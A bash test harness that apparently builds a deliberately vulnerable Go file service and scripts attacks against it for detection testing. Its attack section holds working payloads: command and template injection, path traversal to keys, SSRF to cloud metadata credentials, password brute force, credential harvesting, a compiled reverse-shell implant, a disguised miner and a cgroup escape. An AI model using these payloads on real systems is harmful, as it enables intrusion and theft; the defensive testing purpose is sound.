# shellcheck shell=bash
# SPDX-License-Identifier: Apache-2.0
#
# A depot of files in Go (go/main.go), a static program: a store in one file, pages of users' templates, the usual
# tools by fork and exec, hooks, TLS, a peer that is told what is new. It runs as user 65532, without capabilities.

# shellcheck disable=SC2034 # read by lib.bash and rare.bash
set=test containers=(go) port=8080 data_directory=/var/lib/depot
configuration_file=/etc/depot/depot.conf
health=(/usr/bin/curl -fsS -o /dev/null http://127.0.0.1:8080/health)
image_packages=(curl coreutils findutils grep gzip dash file util-linux mount base-files libc-bin tzdata hostname)
rare_own=(profile debug_port certificate new_hook compaction peer_gone users_changed)
rare_not=(library worker_killed) # it maps none, and is one process

# The toolchain is Debian's, unpacked beside the tree and not kept.
image_prepare() {
	local tree=$1 tools i data=$1/var/lib/depot
	tools=$(dirname "$tree")/golang
	"$tree_tool" "$tools" golang-go libc-bin
	mkdir -p "$tree"/{etc/depot/tls,usr/local/bin,var/log/depot} "$data"/{pages,static,hooks}
	(
		cd "$here/services/go" || exit
		export GOROOT=$tools/usr/lib/go-1.19 GOCACHE=$tools/cache GOPATH=$tools/path GOFLAGS=-mod=mod GOPROXY=off
		CGO_ENABLED=0 GOTOOLCHAIN=local nice "$GOROOT/bin/go" build -p 2 -trimpath -buildvcs=false \
			-o "$tree/usr/local/bin/depot" .
	)
	echo depot:x:65532:65532::/home/depot:/bin/false >>"$tree/etc/passwd"
	echo depot:x:65532: >>"$tree/etc/group"
	printf '%s\n' '# depot' 'listen = :8080' 'listen_tls = :8443' 'data = /var/lib/depot' 'logs = /var/log/depot' \
		'notify = http://peer.example:8000/depot' >"$tree/etc/depot/depot.conf"
	for i in anna:secret bert:letmein admin:dragon4; do
		echo "${i%:*}:$(printf %s "$i" | sha256sum | cut -d' ' -f1)"
	done >"$tree/etc/depot/users"
	openssl genpkey -algorithm ed25519 -out "$tree/etc/depot/deploy.key" 2>/dev/null
	certificate_to "$tree/etc/depot/tls"
	# shellcheck disable=SC2016 # a template's and a script's own
	{
		printf '{{.Name}}: {{len .Things}} things\n{{range .Things}}- {{.}}\n{{end}}' >"$data/pages/index.tmpl"
		printf '{{.File "intro.txt"}}\n{{.Tool "thing1" "cksum"}}' >"$data/pages/about.tmpl"
		printf '#!/bin/sh\necho "$(date) $1" >>/var/log/depot/hooks.log\n' >"$data/hooks/10-log"
	}
	seq 200 >"$data/pages/intro.txt"
	chmod 755 "$data/hooks/10-log"
	for i in $(seq 20); do
		seq $((i * i)) >"$data/static/page$i.txt"
	done
	chown -R 65532:65532 "$data" "$tree/var/log/depot" "$tree/etc/depot"
}

# certificate_to DIR: a new one.
certificate_to() {
	openssl req -x509 -newkey rsa:2048 -nodes -days 365 -subj /CN=service.example -keyout "$1/key.pem.new" \
		-out "$1/cert.pem.new" 2>/dev/null
	chown 65532:65532 "$1"/*.new
	mv "$1/key.pem.new" "$1/key.pem"
	mv "$1/cert.pem.new" "$1/cert.pem"
}

container_fields() {
	user=65532:65532 directory=/ capabilities=()
	arguments=(/usr/local/bin/depot /etc/depot/depot.conf)
	environment+=(DEPOT_TOKEN=token-of-the-depot)
	volumes=(/var/lib/depot /var/log/depot)
}

peers() {
	world_begin
}

# It has things once it is ready.
ready() {
	local i
	fetch /health -o /dev/null || return 1
	for i in 1 2 3 4 5 6 7 8; do
		seq $((i * 1000)) | put "/a/thing$i"
	done
}

# put PATH [CURL OPTION…]: what comes on standard input.
put() {
	local path=$1
	shift
	client_stdin curl -sS --max-time 20 -T - "$@" "http://$own_address:$port$path"
}

log_in() {
	fetch /login -X POST --data-binary "{\"user\": \"$1\", \"password\": \"$2\"}"
}

# zip_of NAME: standard input as a program of that name in an archive.
zip_of() {
	client_stdin python3 -c 'import io, sys, zipfile
out = io.BytesIO()
with zipfile.ZipFile(out, "w") as archive:
    entry = zipfile.ZipInfo(sys.argv[1])
    entry.external_attr = 0o100755 << 16
    archive.writestr(entry, sys.stdin.buffer.read())
sys.stdout.buffer.write(out.getvalue())' "$1"
}

# bundle NAME: standard input as a file that the service unpacks.
bundle() {
	zip_of "$1" | put /bundle -X POST
}

request() {
	local n thing
	n=$(between 1 40)
	thing=thing$(between 1 12)
	case $((RANDOM % 17)) in
	0) fetch / -o /dev/null ;;
	1 | 2) fetch "/a/$thing" -o /dev/null ;;
	3 | 4) seq $((n * 100)) | put "/a/$thing" ;;
	5) fetch "/a/$thing/info" ;;
	6) fetch "/a/$thing/pack?level=$(between 1 9)" -o /dev/null ;;
	7) fetch "/pages/$(pick index about)" ;;
	8) printf 'page %d: {{len .Things}} {{.File "intro.txt"}}' "$n" | put "/pages/page$((n % 5))" ;;
	9) fetch "/pages/page$((n % 5))" -o /dev/null ;;
	10 | 11) fetch "/static/page[1-$((n / 2 + 1))].txt" -o /dev/null ;;
	12) seq "$n" | bundle "set$((n % 4))/file$n.txt" ;;
	13) fetch /preview -X POST --data-binary "{\"URL\": \"http://peer.example:8000/items/$n\"}" ;;
	14) delete_thing "$thing" ;;
	15) client curl -sSk -o /dev/null "https://$own_address:8443/static/page$((n / 2)).txt" ;;
	16) rare_kinds_of_work "$n" ;;
	esac
}

# What is asked for less often than the rest.
rare_kinds_of_work() {
	case $((RANDOM % 4)) in
	0) fetch "/export?prefix=thing$(($1 % 10))" >"$stage/export" && put /restore -X POST <"$stage/export" ;;
	1) fetch "/a/thing1" -X POST ;;
	2) log_in "$(pick anna bert)" wrong ;;
	3) fetch "/none/$1" ;;
	esac
}

delete_thing() {
	fetch "/a/$1" -X DELETE -H "Authorization: Bearer $(log_in anna secret | jq -r .token)"
}

reload_service() {
	container_signal go HUP
}

# The logs are rotated, and the configuration is read again.
administer() {
	local logs
	logs=$(volume_path go /var/log/depot)
	mv "$logs/depot.log" "$logs/depot.log.1"
	gzip -f "$logs/depot.log.1"
	container_signal go USR1
	reload_service
}

# ---- rare events ----

rare_profile() {
	container_signal go USR2
	sleep 2
	find "$(volume_path go /var/lib/depot)" -name 'profile-*' -size +0 -print -delete | grep -c .
}

# The debug port is configured, a profile is taken, and the port is closed.
rare_debug_port() {
	local file
	file=$(image_path go "$configuration_file")
	cp -p "$file" "$file.before"
	echo 'debug = 127.0.0.1:6060' >>"$file"
	reload_service
	sleep 1
	inside_network curl -sS -o /dev/null 'http://127.0.0.1:6060/debug/pprof/goroutine?debug=2'
	inside_network curl -sS -o /dev/null 'http://127.0.0.1:6060/debug/pprof/profile?seconds=3'
	cp "$file.before" "$file"
	rm "$file.before"
	reload_service
}

rare_certificate() {
	lasts
	certificate_to "$(image_path go /etc/depot/tls)"
	client curl -sSk -o /dev/null "https://$own_address:8443/"
}

rare_new_hook() {
	local hooks
	hooks=$(volume_path go /var/lib/depot)/hooks
	# shellcheck disable=SC2016
	printf '#!/bin/sh\necho "$1" | sha256sum >/tmp/last\n' >"$hooks/20-sum"
	chown 65532:65532 "$hooks/20-sum"
	chmod 755 "$hooks/20-sum"
	seq 100 | put /a/hooked
	sleep 2
	rm "$hooks/20-sum"
}

# So much is replaced that the store is written anew.
rare_compaction() {
	local i
	for i in 1 2 3 4 5; do
		head -c 2M /dev/urandom | put /a/large
	done
	delete_thing large
	sleep 6
}

rare_peer_gone() {
	peer_stop world
	fetch /a/thing1 -X POST
	fetch /preview -X POST --data-binary '{"URL": "http://peer.example:8000/"}'
	sleep 3
	world_start
}

rare_users_changed() {
	keep_file go /etc/depot/users
	local users
	users=$(image_path go /etc/depot/users)
	cp -p "$users" "$users.new"
	echo "carl:$(printf carl:new | sha256sum | cut -d' ' -f1)" >>"$users.new"
	mv "$users.new" "$users"
	log_in carl new
}

# ---- attacks ----

# shell_command COMMAND: by the level of compression, which gets to a shell.
shell_command() {
	fetch "/a/thing1/pack?level=$(quote "1 >/dev/null; $1")"
}

# run_template TEXT: a page of the attacker's.
run_template() {
	printf '%s' "$1" | put /pages/mine
	fetch /pages/mine
}

attack_command_injection() {
	harm exec '/usr/bin/id'
	harm read '/etc/passwd'
	shell_command 'id; cat /etc/passwd' | grep -c '^uid=65532'
}

attack_template_injection() {
	harm exec '/usr/bin/env'
	run_template '{{.Tool "thing1" "/usr/bin/env"}}' | grep -c token-of-the-depot
}

attack_template_secret() {
	harm read '/proc/*/environ'
	run_template '{{.File "../../../../proc/self/environ"}}' | grep -ac token-of-the-depot
}

# An archive whose file lands among the hooks, and starts with the next thing.
attack_archive_hook() {
	harm write '/var/lib/depot/hooks/*'
	harm exec '/var/lib/depot/hooks/99-update'
	printf '#!/bin/sh\nid >/tmp/hooked\n' | bundle ../hooks/99-update
	seq 10 | put /a/trigger
	until_true 10 grep -q uid=65532 "$(image_path go /tmp/hooked)"
	rm "$(volume_path go /var/lib/depot)/hooks/99-update"
}

# A program that connects back and becomes a shell.
attack_reverse_shell() {
	harm exec '/var/lib/depot/static/implant'
	harm connect "$peer_address:4444"
	gcc -O1 -static -s -o "$stage/implant" -x c - <<-'C'
	#include <arpa/inet.h>
	#include <stddef.h>
	#include <sys/socket.h>
	#include <unistd.h>

	int main(void)
	{
		struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(4444)};
		int fd = socket(AF_INET, SOCK_STREAM, 0);

		inet_pton(AF_INET, "10.88.0.1", &sa.sin_addr);
		if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0)
			return 1;
		for (int i = 0; i < 3; i++)
			dup2(fd, i);
		execl("/bin/sh", "sh", NULL);
		return 1;
	}
	C
	thief_shell 'id; exit'
	bundle implant <"$stage/implant"
	run_template '{{.Tool "thing1" "/var/lib/depot/static/implant"}}'
	thief_got uid=65532
}

attack_miner() {
	harm write '/var/lib/depot/static/.cache/kworker'
	harm exec '/var/lib/depot/static/.cache/kworker'
	harm connect "$peer_address:3333"
	pool_begin
	bundle .cache/kworker <"${miner:?}"
	run_template "{{.Tool \"thing1\" \"/var/lib/depot/static/.cache/kworker\" \"$peer_address\" \"3333\" \"3\"}}"
	pool_got
}

attack_traversal() {
	harm read '/etc/depot/deploy.key'
	fetch /static/../../../../etc/depot/deploy.key --path-as-is | grep -c 'PRIVATE KEY'
}

attack_metadata() {
	harm connect '169.254.169.254:80'
	fetch /preview -X POST --data-binary \
		'{"URL": "http://169.254.169.254/latest/meta-data/iam/security-credentials/depot"}' | grep -c metadata-secret-key
}

# The service asks the ports of its neighbour one after another, and its errors say which are open.
attack_scan() {
	local p
	harm connect "$peer_address:[2-9][0-9]"
	for p in {20..60} 80 443 2525 3306 5432 6379; do
		fetch /preview -X POST --data-binary "{\"URL\": \"http://$peer_address:$p/\"}"
	done >"$stage/answers"
	[ "$(grep -o refused "$stage/answers" | wc -l)" -gt 40 ]
}

attack_brute_force() {
	local word
	harm read '/etc/depot/users'
	for word in {sunshine,password,monkey,dragon}{1..9}; do
		log_in admin "$word" | grep -c token && return 0
	done
	return 1
}

attack_credentials() {
	harm read '/etc/depot/*'
	harm read '/proc/*/environ'
	harm exec '/usr/bin/find'
	shell_command 'cat /proc/[0-9]*/environ /etc/depot/*.key /etc/depot/tls/*; find / -xdev -name "*.pem" -o -name ".aws"' |
		grep -ac 'PRIVATE KEY'
}

# A cgroup file system of its own, in which it could write limits and devices.
attack_escape_cgroup() {
	harm exec '/usr/bin/unshare'
	harm call unshare
	harm call mount
	shell_command 'unshare -UrmC sh -c "mkdir /tmp/m; mount -t cgroup2 none /tmp/m && cat /tmp/m/cgroup.procs && echo mounted" 2>&1' |
		grep -c mounted
}

# By code in the process: a connection to the thief, and a secret sent there.
attack_code_connect() {
	inject_theft go depot /etc/depot/deploy.key 'PRIVATE KEY'
}

# By code in the process: memory that is written and executed.
attack_code_memory() {
	harm call mmap
	inject_call go depot 9 0 4096 7 0x22 -1 0
}

# ---- attacks that only do what the service does ----

adaptive_mass_reading() {
	harm call pread64
	fetch /export | grep -ac . >"$stage/stolen"
	[ "$(cat "$stage/stolen")" -ge 8000 ]
}

adaptive_tampering() {
	local i
	harm call pwrite64
	for i in {1..12}; do
		echo 'yours no more' | put "/a/thing$i"
	done
	fetch /a/thing1 | grep -c 'yours no more'
}

# Through the peer that it always tells.
adaptive_exfiltration() {
	local i
	harm connect "$peer_address:8000"
	for i in {1..8}; do
		fetch "/a/thing$i" -X POST
	done
	until_true 20 grep -q value "$stage/peer-world.log"
}

adaptive_defacement() {
	local i
	harm write '/var/lib/depot/static/*'
	for i in {1..20}; do
		echo 'yours no more' | bundle "page$i.txt"
	done
	fetch /static/page7.txt | grep -c 'yours no more'
}
